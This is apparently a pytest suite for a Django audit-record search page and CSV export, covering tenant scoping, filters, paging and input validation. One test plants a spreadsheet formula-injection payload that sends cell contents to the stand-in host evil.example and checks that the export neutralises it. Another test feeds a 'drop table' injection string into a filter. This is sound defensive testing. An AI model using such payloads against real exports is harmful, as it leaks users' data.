"""The audit search page and its CSV export."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse

from audit.models import AuditRecord
from tenants import actions
from tests.fixtures import Cast

pytestmark = pytest.mark.django_db


def seqs(response: Any) -> list[int]:
    return [record.seq for record, _customer in response.context["rows"]]


def export(client: Any, **params: Any) -> list[list[str]]:
    response = client.get(reverse("audit:record-export"), params)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_administrator_sees_only_their_subtree(cast: Cast, login: Any) -> None:
    actions.update_customer(actor=cast.sibling_admin, customer=cast.shop, notes="sibling change")
    actions.update_customer(actor=cast.sub_admin, customer=cast.ministry, notes="own change")
    client = login(cast.sub_admin)
    shown = AuditRecord.objects.filter(seq__in=seqs(client.get(reverse("audit:record-list"))))
    assert shown.exists()
    assert all(r.customer_path.startswith(cast.government.path) for r in shown)
    assert not shown.filter(object_repr="Shop").exists()
    assert shown.filter(action="customer.update", object_repr="Ministry").exists()


def test_filters(cast: Cast, login: Any) -> None:
    actions.update_customer(actor=cast.sub_admin, customer=cast.department, notes="budget 2026")
    client = login(cast.sub_admin)
    url = reverse("audit:record-list")
    by_action = client.get(url, {"action": "customer.update"})
    assert [r.action for r, _ in by_action.context["rows"]] == ["customer.update"]
    by_text = client.get(url, {"q": "budget"})
    assert [r.object_repr for r, _ in by_text.context["rows"]] == ["Department"]
    by_actor = client.get(url, {"actor": "sub.admin", "action": "customer."})
    assert {r.actor_id for r, _ in by_actor.context["rows"]} == {cast.sub_admin.pk}
    by_type = client.get(url, {"object_type": "tenants.administrator"})
    assert {r.object_type for r, _ in by_type.context["rows"]} == {"tenants.administrator"}
    by_customer = client.get(url, {"customer": cast.department.pk})
    assert {r.object_repr for r, _ in by_customer.context["rows"]} == {"Department"}
    future = client.get(url, {"since": "2999-01-01T00:00"})
    assert future.context["rows"] == []
    window = client.get(url, {"since": "2000-01-01T00:00", "until": "2999-01-01T00:00"})
    assert len(window.context["rows"]) == len(client.get(url).context["rows"])


def test_bad_filters_are_form_errors_not_500(cast: Cast, login: Any) -> None:
    client = login(cast.sub_admin)
    url = reverse("audit:record-list")
    for params, field in [
        ({"since": "yesterday"}, "since"),
        ({"since": "2026-01-02T00:00", "until": "2026-01-01T00:00"}, "until"),
        ({"customer": cast.isp.pk}, "customer"),  # outside the scope
        ({"customer": "1; drop table"}, "customer"),
        ({"q": "a\x00b"}, "q"),
        ({"action": "x" * 65}, "action"),
    ]:
        response = client.get(url, params)
        assert response.status_code == 200, params
        assert field in response.context["form"].errors, params
        assert response.context["rows"] == []
    assert client.get(reverse("audit:record-export"), {"since": "nope"}).status_code == 400


def test_results_are_paged_by_sequence(cast: Cast, login: Any) -> None:
    for i in range(60):
        actions.update_customer(actor=None, customer=cast.ministry, notes=f"note {i}")
    client = login(cast.sub_admin)
    url = reverse("audit:record-list")
    first = client.get(url, {"action": "customer.update"})
    page = first.context["page"]
    assert len(first.context["rows"]) == 50 and page.next_after is not None
    second = client.get(url, {"action": "customer.update", "after": page.next_after})
    assert len(second.context["rows"]) == 10
    assert max(seqs(second)) < min(seqs(first))
    # The pager keeps the filters.
    assert "action=customer.update" in first.content.decode()


def test_csv_export_is_scoped_filtered_and_neutralised(cast: Cast, login: Any) -> None:
    evil = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
    actions.create_customer(actor=cast.sub_admin, name=evil, parent=cast.ministry)
    actions.create_customer(actor=cast.sibling_admin, name="+Sibling", parent=cast.isp)
    rows = export(login(cast.sub_admin), action="customer.create")
    header, body = rows[0], rows[1:]
    assert header[:3] == ["seq", "time", "actor"]
    objects = [row[header.index("object")] for row in body]
    assert "'" + evil in objects
    assert evil not in objects
    assert not any("Sibling" in value for value in objects)
    changes = [row[header.index("changes")] for row in body]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in body for cell in row)
    assert any("HYPERLINK" in c for c in changes)


def test_download_link_carries_the_filters(cast: Cast, login: Any) -> None:
    html = (
        login(cast.sub_admin).get(reverse("audit:record-list"), {"q": "Ministry"}).content.decode()
    )
    assert f'href="{reverse("audit:record-export")}?q=Ministry"' in html


def test_customer_names_shown_for_records(cast: Cast, login: Any) -> None:
    actions.update_customer(actor=cast.sub_admin, customer=cast.ministry, notes="x")
    response = login(cast.sub_admin).get(
        reverse("audit:record-list"), {"action": "customer.update"}
    )
    assert response.context["rows"][0][1] == "Ministry"
